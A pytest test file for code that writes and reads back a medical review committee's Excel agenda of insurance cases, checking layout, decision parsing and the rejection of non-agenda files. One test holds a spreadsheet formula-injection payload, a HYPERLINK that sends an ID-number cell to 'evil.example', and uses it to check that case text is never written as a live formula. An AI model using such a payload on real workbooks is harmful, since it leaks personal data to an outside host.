"""The committee's workbook: what the experts see and what is read back."""

from __future__ import annotations

import uuid
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from app.errors import NcmsError
from app.reports.review_sheet import read_decisions, write_agenda
from app.services.review import Case
from tests.app.reports.helpers import FORMULA_PREFIXES, hostile, live_cells, text_values


def _case(number: str, code: str = "HTN") -> Case:
    return Case(
        uuid.uuid4(), number, "S001", "new", "王秀英", "410523********0013", 74, code,
        "高血压病（Ⅱ、Ⅲ期）", "B", "汤阴县人民医院", "county", date(2026, 9, 1), "李主任",
        "8/8", 3, True, "county_received",
    )  # fmt: skip


def test_agenda_has_a_drop_down_and_reads_back(tmp_path: Path) -> None:
    out = tmp_path / "agenda.xlsx"
    write_agenda([_case("S001-2026-000001"), _case("S001-2026-000002", "DM")], out, "议程")
    book = load_workbook(out)
    sheet = book["评审议程"]
    assert sheet.freeze_panes == "C3" and sheet.page_setup.orientation == "landscape"
    (choice,) = sheet.data_validations.dataValidation
    assert choice.formula1 == '"通过,不通过,需体检,需补充材料"' and str(choice.sqref) == "R3:R4"
    assert sheet["H3"].value == "410523********0013" and sheet["Q3"].value == "是"
    sheet["R3"], sheet["S3"], sheet["T3"], sheet["U3"] = "不通过", "证据不足", "张医生", "李医生"
    book.save(out)
    (row,) = read_decisions(out)  # the undecided second case is not a decision
    assert (row.row, row.application_number, row.disease_code) == (3, "S001-2026-000001", "HTN")
    assert (row.conclusion, row.reasons, row.experts) == (
        "rejected",
        "证据不足",
        ("张医生", "李医生"),
    )


def test_a_workbook_that_is_not_an_agenda_is_refused(tmp_path: Path) -> None:
    other = tmp_path / "other.xlsx"
    Workbook().save(other)
    with pytest.raises(NcmsError, match="not a review agenda"):
        read_decisions(other)
    (tmp_path / "text.xlsx").write_text("hello")
    with pytest.raises(NcmsError, match="not a review agenda"):
        read_decisions(tmp_path / "text.xlsx")


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=repr)
def test_agenda_text_from_a_package_is_never_a_formula(tmp_path: Path, prefix: str) -> None:
    # A station's package decides every text of a case: person, doctor, hospital...
    text = f'{prefix}HYPERLINK("http://evil.example/?"&H3,"-王")'
    shown = text.replace("\r", "\n")  # how any XML reader reads a CR back
    out = tmp_path / "agenda.xlsx"
    write_agenda([hostile(_case("S001-2026-000001"), text)], out, text)
    assert live_cells(out) == []
    assert shown in text_values(out)  # and the clerk reads it as it came
